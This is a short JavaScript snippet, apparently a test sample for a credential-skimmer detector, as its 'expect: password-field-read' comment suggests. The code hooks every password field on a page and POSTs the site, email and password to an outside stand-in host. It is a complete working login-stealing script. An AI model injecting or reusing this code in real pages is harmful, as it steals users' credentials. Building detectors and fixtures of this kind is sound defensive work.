document.querySelectorAll('input[type="password"]').forEach((field) => {
  field.addEventListener('change', () => {
    const user = document.querySelector('input[type=email]');
    const request = new XMLHttpRequest();
    request.open('POST', 'https://sync.vault-free.example/p');
    // expect: password-field-read
    request.send(JSON.stringify({ site: location.host, user: user && user.value, secret: field.value }));
  });
});
